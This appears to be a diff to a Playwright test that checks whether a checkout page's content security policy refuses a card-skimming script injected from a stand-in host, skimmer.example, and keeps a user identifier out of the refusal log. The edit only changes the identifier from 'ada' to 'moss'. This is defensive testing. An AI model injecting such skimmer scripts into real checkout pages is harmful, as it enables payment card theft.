@@ -149,16 +149,16 @@ test.describe('a script that is planted where a card is entered', { tag: '@deskt
         .filter((line) => line !== '')
         .map((line) => JSON.parse(line));
     const before = log().filter((line) => 'CheckoutScriptRefused' in line).length;
-    await page.goto('/cart?utm=ada%40example.com');
+    await page.goto('/cart?utm=moss%40example.com');
     await page.evaluate(() => {
       document.head.append(
-        Object.assign(document.createElement('script'), { src: 'https://skimmer.example/card.js?to=ada' }),
+        Object.assign(document.createElement('script'), { src: 'https://skimmer.example/card.js?to=moss' }),
       );
     });
 
     const sample = () => log().find(({ blocked }) => blocked === 'skimmer.example');
     await expect.poll(sample).toMatchObject({ code: 'script-src-elem', path: '/cart', state: 'refused' });
-    expect(JSON.stringify(sample())).not.toContain('ada');
+    expect(JSON.stringify(sample())).not.toContain('moss');
     expect(log().filter((line) => 'CheckoutScriptRefused' in line).length).toBe(before);
   });
 });
